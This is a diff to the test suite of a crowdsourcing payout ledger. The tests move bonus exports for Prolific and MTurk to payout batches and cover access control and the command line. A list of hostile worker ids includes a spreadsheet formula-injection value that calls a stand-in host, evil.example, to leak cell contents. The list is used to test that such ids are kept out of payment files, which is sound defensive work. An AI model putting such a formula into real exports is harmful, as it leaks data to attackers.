@@ -295,6 +295,11 @@ def hand(client: TestClient, app: Any, make_user: MakeUser, stub_model: Threaded
     return HandRound(round_["id"], researcher, ids, sessions, examples, response.json())
 
 
+def _link_id(app: Any, name: str) -> int:
+    with session_scope(app.state.sessionmaker) as session:
+        return int(session.scalars(select(StudyLink.id).where(StudyLink.name == name)).one())
+
+
 def _rows(app: Any) -> set[tuple[str, str, int, int | None, int]]:
     with session_scope(app.state.sessionmaker) as session:
         return {
@@ -496,26 +501,29 @@ def test_the_bonus_files_are_exactly_the_platforms_formats(client: TestClient, a
             f"{API}/ledger/{entry_id}/corrections", json={"amount_minor": amount, "reason": "fix"}, headers=rita.headers
         )
         assert response.status_code == 201, response.text
-    prolific = client.get(
-        f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": "prolific"}, headers=rita.headers
+    prolific = client.post(
+        f"{API}/tasks/{TASK}/payout-batches", json={"link_id": _link_id(app, "writers")}, headers=rita.headers
     )
-    assert prolific.status_code == 200, prolific.text
+    assert prolific.status_code == 201, prolific.text
+    batch = prolific.json()["batch"]
     # wanda: 10 (E1) + 15 (correction of a bonus) = 25 -> 0.25; wes: 10 (E4) -> 0.10.
-    # v1, v2, v4 have bonuses but no Prolific id: not in the file, named in the headers.
-    assert prolific.text == "5a0c0ffee0000000000000a1,0.25\n5b0c0ffee0000000000000b2,0.10\n"
-    assert prolific.headers["content-disposition"] == 'attachment; filename="dynasent-r2-bonuses-prolific.csv"'
-    assert prolific.headers["content-type"].startswith("text/csv")
-    assert prolific.headers["x-ledger-without-platform-id"] == "3"
-    assert prolific.headers["x-ledger-without-platform-id-users"] == "v1,v2,v4"
-    mturk = client.get(f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": "mturk"}, headers=rita.headers)
-    assert mturk.status_code == 200, mturk.text
-    # v1's base-pay correction (-50) is not a bonus: not in the file. v4 has no MTurk id.
-    assert mturk.text == (
-        "worker_id,assignment_id,amount,reason\n"
-        "A1WORKER,ASG1,0.20,Bonus for task dynasent-r2\n"
-        "A2WORKER,ASG2,0.20,Bonus for task dynasent-r2\n"
+    # v1, v2 (the MTurk link's) and v4 (no study link) are not in this study's file: named apart.
+    prolific_file = client.get(f"{API}/payout-batches/{batch['id']}/file", headers=rita.headers)
+    assert prolific_file.text == "5a0c0ffee0000000000000a1,0.25\n5b0c0ffee0000000000000b2,0.10\n"
+    assert prolific_file.headers["content-disposition"] == f'attachment; filename="{batch["filename"]}"'
+    assert prolific_file.headers["content-type"].startswith("text/csv")
+    assert sorted((e["link_name"], tuple(e["usernames"])) for e in prolific.json()["elsewhere"] if e["link_name"]) == [
+        ("validators", ("v1", "v2"))
+    ]
+    assert [e["usernames"] for e in prolific.json()["elsewhere"] if e["link_name"] is None] == [["v4"]]
+    # The MTurk link's study is paid in the task's GBP, and MTurk pays in USD only: refused.
+    counts = table_counts(app)
+    mturk = client.post(
+        f"{API}/tasks/{TASK}/payout-batches", json={"link_id": _link_id(app, "validators")}, headers=rita.headers
     )
-    assert mturk.headers["x-ledger-without-platform-id-users"] == "v4,wanda,wes"
+    assert mturk.status_code == 422, mturk.text
+    assert "USD only" in mturk.json()["error"]["message"]
+    assert table_counts(app) == counts
     # The totals: 330 computed + 15 - 50 = 295.
     totals = client.get(f"{API}/tasks/{TASK}/ledger", headers=rita.headers).json()
     assert totals["total"] == 295 and totals["currency"] == "GBP" and totals["count"] == 5
@@ -564,8 +572,8 @@ HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"pay")', "-2+3", "+1", "@S
 def test_an_id_the_platform_never_issues_never_reaches_a_bonus_file(
     client: TestClient, app: Any, hand: HandRound, hostile: str
 ) -> None:
-    """wes (Prolific) and v1 (MTurk, worker and assignment id) arrived with a made-up id: the bonus
-    files leave them out and name them, so no cell is evaluated and no one is paid by that id."""
+    """wes (Prolific) arrived with a made-up id: the payout batch leaves him out and names him, so
+    no cell is evaluated and no one is paid by that id (MTurk's ids: tests/test_payouts.py)."""
     with session_scope(app.state.sessionmaker) as session:
         for name, worker, assignment in (("wes", hostile, None), ("v1", hostile, "ASG1"), ("v2", "A2WORKER", hostile)):
             row = session.get(StudySession, hand.sessions[name])
@@ -575,20 +583,16 @@ def test_an_id_the_platform_never_issues_never_reaches_a_bonus_file(
                 row.platform_session_id = assignment
     before = table_snapshot(app, "ledger_entries", "study_sessions")
     rita = hand.researcher
-    prolific = client.get(
-        f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": "prolific"}, headers=rita.headers
+    prolific = client.post(
+        f"{API}/tasks/{TASK}/payout-batches", json={"link_id": _link_id(app, "writers")}, headers=rita.headers
     )
-    assert prolific.status_code == 200, prolific.text
-    assert prolific.text == "5a0c0ffee0000000000000a1,0.10\n"  # wanda alone
-    assert prolific.headers["x-ledger-invalid-platform-id"] == "1"
-    assert prolific.headers["x-ledger-invalid-platform-id-users"] == "wes"
-    mturk = client.get(f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": "mturk"}, headers=rita.headers)
-    assert mturk.status_code == 200, mturk.text
-    assert mturk.text == "worker_id,assignment_id,amount,reason\n"  # v1's worker id, v2's assignment id
-    assert mturk.headers["x-ledger-invalid-platform-id-users"] == "v1,v2"
-    for text in (prolific.text, mturk.text):
-        cells = [cell for line in text.splitlines() for cell in line.split(",")]
-        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    assert prolific.status_code == 201, prolific.text
+    text = client.get(f"{API}/payout-batches/{prolific.json()['batch']['id']}/file", headers=rita.headers).text
+    assert text == "5a0c0ffee0000000000000a1,0.10\n"  # wanda alone
+    held = prolific.json()["held_back"]
+    assert [h["username"] for h in held] == ["wes"] and "not one prolific issues" in held[0]["reason"]
+    cells = [cell for line in text.splitlines() for cell in line.split(",")]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
     assert table_snapshot(app, "ledger_entries", "study_sessions") == before
 
 
@@ -645,16 +649,6 @@ def test_a_correction_reason_in_any_script_is_kept_with_its_joiners(
         assert stored is not None and stored.reason == reason
 
 
-@pytest.mark.parametrize("platform", ["generic", "paypal", "", "PROLIFIC", "x" * 100])
-def test_a_bad_platform_is_refused(client: TestClient, hand: HandRound, platform: str) -> None:
-    response = client.get(
-        f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": platform}, headers=hand.researcher.headers
-    )
-    assert response.status_code == 422, response.text
-    missing = client.get(f"{API}/tasks/{TASK}/ledger/bonuses.csv", headers=hand.researcher.headers)
-    assert missing.status_code == 422
-
-
 # --- attackers --------------------------------------------------------------------------------
 
 
@@ -666,13 +660,14 @@ def test_another_groups_researcher_is_told_there_is_no_such_task_or_entry(
     before = table_snapshot(app, "ledger_entries")
     counts = table_counts(app)
     no_task = f"no task {TASK!r}; list tasks with GET /api/v1/tasks"
-    for method, url, kwargs in [
+    calls: list[tuple[str, str, dict[str, Any]]] = [
         ("POST", f"{API}/tasks/{TASK}/ledger/compute", {"json": {}}),
         ("GET", f"{API}/tasks/{TASK}/ledger", {}),
         ("GET", f"{API}/tasks/{TASK}/ledger/workers/{hand.users['wanda']}", {}),
-        ("GET", f"{API}/tasks/{TASK}/ledger/bonuses.csv", {"params": {"platform": "prolific"}}),
+        ("GET", f"{API}/tasks/{TASK}/payout-batches", {}),
         ("GET", f"{API}/tasks/{TASK}/crowd-report", {}),
-    ]:
+    ]
+    for method, url, kwargs in calls:
         response = client.request(method, url, headers=oscar.headers, **kwargs)
         assert response.status_code == 404, (url, response.text)
         assert response.json()["error"]["message"] == no_task
@@ -701,7 +696,7 @@ def test_workers_cannot_call_the_ledger_routes(
             ("POST", f"{API}/tasks/{TASK}/ledger/compute", {"json": {}}),
             ("GET", f"{API}/tasks/{TASK}/ledger", {}),
             ("GET", f"{API}/tasks/{TASK}/ledger/workers/{hand.users['wanda']}", {}),
-            ("GET", f"{API}/tasks/{TASK}/ledger/bonuses.csv", {"params": {"platform": "prolific"}}),
+            ("GET", f"{API}/tasks/{TASK}/payout-batches", {}),
             ("GET", f"{API}/tasks/{TASK}/crowd-report", {}),
             ("POST", f"{API}/ledger/{entry_id}/corrections", {"json": {"amount_minor": 500, "reason": "me"}}),
         ]:
@@ -779,7 +774,7 @@ def test_a_build_stands_when_the_ledger_fails(
 # --- the command line ---------------------------------------------------------------------------
 
 
-def test_the_ledger_command_computes_shows_exports_and_corrects(app: Any, hand: HandRound, settings: Any) -> None:
+def test_the_ledger_command_computes_shows_pays_and_corrects(app: Any, hand: HandRound, settings: Any) -> None:
     from typer.testing import CliRunner
 
     from dynaloop.cli import app as cli
@@ -793,12 +788,25 @@ def test_the_ledger_command_computes_shows_exports_and_corrects(app: Any, hand: 
     computed = run("compute", "--task", TASK, "--round", "1")
     assert computed.exit_code == 0, computed.output
     assert "0 rows added" in computed.stdout and "7 events were paid already" in computed.stdout
-    exported = run("export", "--task", TASK, "--platform", "prolific")
-    assert exported.exit_code == 0, exported.output
-    # wanda 10 (E1), wes 10 (E4): no corrections here.
-    assert exported.stdout == "5a0c0ffee0000000000000a1,0.10\n5b0c0ffee0000000000000b2,0.10\n"
-    assert "v1, v2, v4" in exported.stderr
-    assert run("export", "--task", TASK, "--platform", "generic").exit_code == 1
+    writers = str(_link_id(app, "writers"))
+    created = run("batch", "create", "--task", TASK, "--link-id", writers)
+    assert created.exit_code == 0, created.output
+    assert created.stdout.splitlines()[0].startswith("# batch 1: link")
+    # v1, v2 (the MTurk link's) and v4 (no study link) are named with where they are paid.
+    assert "v1, v2: create a payout batch for study link" in created.stderr
+    assert "v4: earned without a study session" in created.stderr
+    # wanda 10 (E1), wes 10 (E4): no corrections here; the file is the batch's, every time.
+    for _ in range(2):
+        exported = run("batch", "file", "1", "--task", TASK)
+        assert exported.exit_code == 0, exported.output
+        assert exported.stdout == "5a0c0ffee0000000000000a1,0.10\n5b0c0ffee0000000000000b2,0.10\n"
+    again = run("batch", "create", "--task", TASK, "--link-id", writers)
+    assert again.exit_code == 1 and "nothing to pay" in again.output
+    assert run("batch", "file", "1", "--task", "no-such-task").exit_code == 1
+    assert run("batch", "paid", "1", "--task", TASK).exit_code == 0
+    assert run("batch", "cancel", "1", "--task", TASK).exit_code == 1  # paid: never cancelled
+    listed = run("batch", "list", "--task", TASK)
+    assert "\tpaid\t2\t0.20\tGBP\t" in listed.stdout, listed.stdout
     entry_id = _entry_id(app, f"example:{hand.examples['E4']}")
     before = table_snapshot(app, "ledger_entries")
     wrong_task = run("correct", str(entry_id), "--amount", "5", "--reason", "x", "--task", "no-such-task")
